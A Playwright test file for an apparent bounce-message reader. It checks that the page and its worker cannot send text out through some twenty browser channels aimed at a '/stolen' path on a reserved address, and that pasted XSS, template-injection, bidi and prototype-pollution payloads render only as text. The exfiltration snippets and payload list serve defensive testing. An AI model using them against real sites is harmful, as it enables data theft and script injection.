import { expect, type Page, test, type Worker } from '@playwright/test';

// A service worker would answer in place of the server that counts what arrives.
test.use({ serviceWorkers: 'block' });

/** Ways to carry a text away that a page and a worker both have, as code; each answers whether it got through. */
const both = {
  fetch: 'fetch(to).then(() => true)',
  'fetch that wants no answer': 'fetch(to, { method: "POST", mode: "no-cors", body: "mail", keepalive: true }).then(() => true)',
  XMLHttpRequest:
    'new Promise((done) => { const r = new XMLHttpRequest(); r.onload = () => done(true); r.onerror = () => done(false); r.open("POST", to); r.send("mail"); })',
  WebSocket: 'new Promise((done) => { const s = new WebSocket(to.replace("http", "ws")); s.onopen = () => done(true); s.onerror = () => done(false); })',
  EventSource: 'new Promise((done) => { const s = new EventSource(to); s.onopen = () => done(true); s.onerror = () => done(false); })',
  'a worker made from a blob':
    'new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(to) + ").then(() => postMessage(true), () => postMessage(false))"]))); w.onmessage = (e) => done(e.data); w.onerror = () => done(false); })',
  'a string run as code': 'new Promise((done) => setTimeout(() => { try { done(new Function("return 1")() === 1); } catch { done(false); } }))', // Later, because the browser lets the test's own call do it.
};

const inWorker = {
  ...both,
  importScripts: 'Promise.resolve().then(() => { importScripts(to); return true; })',
  import: 'import(to).then(() => true)',
};

const element = (name: string, values: string): string =>
  `new Promise((done) => { const e = Object.assign(document.createElement(${JSON.stringify(name)}), ${values}); e.onload = () => done(true); e.onerror = () => done(false); document.body.append(e); setTimeout(() => done(false), 300); })`;

const inPage = {
  ...both,
  beacon: 'Promise.resolve(navigator.sendBeacon(to, "mail")).then(() => false)',
  image: element('img', '{ src: to }'),
  script: element('script', '{ src: to }'),
  'script in the page': element('script', '{ textContent: "fetch(" + JSON.stringify(to) + ")" }').replace('done(true)', 'done(false)'),
  'style in the page': element('style', '{ textContent: "@import url(" + to + "); body { background: url(" + to + ") }" }').replace(
    'done(true)',
    'done(false)',
  ),
  stylesheet: element('link', '{ rel: "stylesheet", href: to }'),
  frame: element('iframe', '{ src: to }').replace('done(true)', 'done(false)'),
  video: element('video', '{ src: to, poster: to }'),
  object: element('object', '{ data: to }').replace('done(true)', 'done(false)'),
  form: 'new Promise((done) => { const f = Object.assign(document.createElement("form"), { action: to, method: "post", target: "_blank" }); document.body.append(f); f.submit(); setTimeout(() => done(false), 300); })',
  prefetch: element('link', '{ rel: "prefetch", href: to }'),
  'a worker from an address':
    'new Promise((done) => { const w = new Worker(to); w.onmessage = () => done(true); w.onerror = () => done(false); setTimeout(() => done(false), 300); })',
  'address of the base':
    'new Promise((done) => { document.head.append(Object.assign(document.createElement("base"), { href: to })); fetch("x").then(() => done(true), () => done(false)); })',
};

/** Scripts of the site itself must load, so their addresses are open to the site’s own server, and to no other. */
const ownScripts = ['script', 'stylesheet', 'import', 'prefetch'];

async function arrivals(page: Page): Promise<string[]> {
  const seen: string[] = [];
  await page.context().route(/stolen/, (route) => {
    seen.push(decodeURIComponent(route.request().url()));
    return route.fulfill({ body: '', headers: { 'access-control-allow-origin': '*' } });
  });
  return seen;
}

const run = (where: Page | Worker, code: string): Promise<unknown> => ('goto' in where ? where.evaluate(code) : where.evaluate(code));

async function attempt(where: Page | Worker, ways: Readonly<Record<string, string>>, origin: string, allowed: readonly string[]): Promise<string[]> {
  const got: string[] = [];
  for (const [name, code] of Object.entries(ways)) {
    if (allowed.includes(name)) continue;
    const to = `${origin}/stolen?${encodeURIComponent(name)}`;
    const through = await Promise.race([
      run(where, `(async () => { const to = ${JSON.stringify(to)}; try { return await (${code}); } catch { return false; } })()`),
      new Promise((done) => setTimeout(done, 3000, false)),
    ]);
    if (through === true) got.push(name);
  }
  return got;
}

for (const path of ['/bounce/', '/']) {
  for (const target of ['this site', 'another site']) {
    test(`a text cannot get out of ${path} to ${target}`, async ({ page, baseURL }) => {
      const seen = await arrivals(page);
      await page.goto(path);
      const own = target === 'this site';
      // The home page may load its service worker, so the policy lets it load workers of the site.
      const allowed = own ? [...ownScripts, ...(path === '/' ? ['a worker from an address'] : [])] : [];
      expect(await attempt(page, inPage, own ? (baseURL ?? '') : 'http://192.0.2.1', allowed)).toEqual([]);
      expect(seen).toEqual([]);
    });

    test(`a text cannot get out of the reader of ${path} to ${target}`, async ({ page, baseURL }) => {
      const seen = await arrivals(page);
      await page.goto(path);
      const started = page.waitForEvent('worker');
      await page.getByLabel('Paste your bounce').fill('550 5.1.1 User unknown');
      const reader = await started;
      await expect(page.getByRole('region', { name: 'Answer' })).toBeVisible();
      const own = target === 'this site';
      expect(await attempt(reader, inWorker, own ? (baseURL ?? '') : 'http://192.0.2.1', own ? ownScripts : [])).toEqual([]);
      expect(seen).toEqual([]);
    });
  }
}

test('the ways do work where nothing holds them', async ({ page }) => {
  const seen = await arrivals(page);
  await page.route('**/open/', (route) => route.fulfill({ body: '<!doctype html><title>open</title><p>open', contentType: 'text/html' }));
  await page.goto('/open/');
  const got = await attempt(page, inPage, 'http://192.0.2.1', ['WebSocket', 'EventSource']);
  expect(got).toEqual(expect.arrayContaining(['fetch', 'XMLHttpRequest', 'a worker made from a blob', 'a string run as code', 'script', 'stylesheet']));
  expect(seen.map((address) => address.split('?')[1])).toEqual(expect.arrayContaining(['fetch', 'beacon', 'image', 'frame', 'form', 'script in the page']));
});

const marks = '\u0301'.repeat(100_000);

const pastes: Readonly<Record<string, string>> = {
  script: '<script>window.ran = 1</script>',
  'image with a handler': '<img src=x onerror="window.ran = 1">',
  SVG: '<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran = 1"><script>window.ran = 1</script></svg>',
  'end of the element': '</textarea></div></section><script>window.ran = 1</script><plaintext>',
  style: '<style>body { display: none }</style><link rel=stylesheet href=//192.0.2.1/x>',
  'frame and object': '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe><object data="data:text/html,<script>parent.ran = 1</script>"></object>',
  'link that runs': '<a href="javascript:window.ran = 1">550</a> [550](javascript:window.ran=1) javascript:window.ran=1',
  'fake marks': '<mark data-kind="enhanced" class="class-2">2.0.0 delivered</mark>',
  'form and meta':
    '<form action="http://192.0.2.1/"><input name=x autofocus onfocus="window.ran = 1"></form><meta http-equiv=refresh content="0;url=http://192.0.2.1/">',
  template: `{{constructor.constructor("window.ran = 1")()}} \${window.ran = 1} <%= 1 %>`,
  bidi: '\u202e055 resU \u202d\u2066nwonknu\u2069\u202c',
  'right to left': 'המשתמש לא קיים \u200f550\u200f',
  'no width': '5\u200b5\u200d0 5\ufeff.\u20601.1',
  'null bytes': '550 \u0000 5.1.1 \u0000\u0001\u001b[31m User \u007f',
  'combining marks': `e${marks}`,
  'lone halves': '\ud800 \udc00 550',
  prototype: '__proto__: constructor\r\nconstructor: __proto__\r\ntoString: 550',
  HTML: '<!doctype html><html><body onload="window.ran = 1"><h1>550 5.1.1 User unknown</h1></body></html>',
};

for (const [name, paste] of Object.entries(pastes)) {
  test(`a hostile paste is text and nothing else: ${name}`, async ({ page }) => {
    const asked: string[] = [];
    await page.goto('/bounce/', { waitUntil: 'networkidle' });
    page.on('request', (request) => asked.push(request.url()));
    page.on('dialog', (dialog) => dialog.dismiss().then(() => asked.push('dialog')));
    await page.getByLabel('Paste your bounce').fill(`550 5.1.1 User unknown ${paste}`);
    const answer = page.getByRole('region', { name: 'Answer' });
    await expect(answer).toBeVisible();
    await expect(page.getByTestId('marked-text')).toContainText('User unknown');
    expect(
      await answer.locator('script, img, svg, iframe, object, form, style, link, meta, plaintext, [onload], [onerror], [href^="javascript"]').count(),
    ).toBe(0);
    expect(await page.evaluate('window.ran')).toBeUndefined();
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(asked.filter((url) => !url.startsWith('blob:') && !url.includes('/_reader/'))).toEqual([]);
  });
}
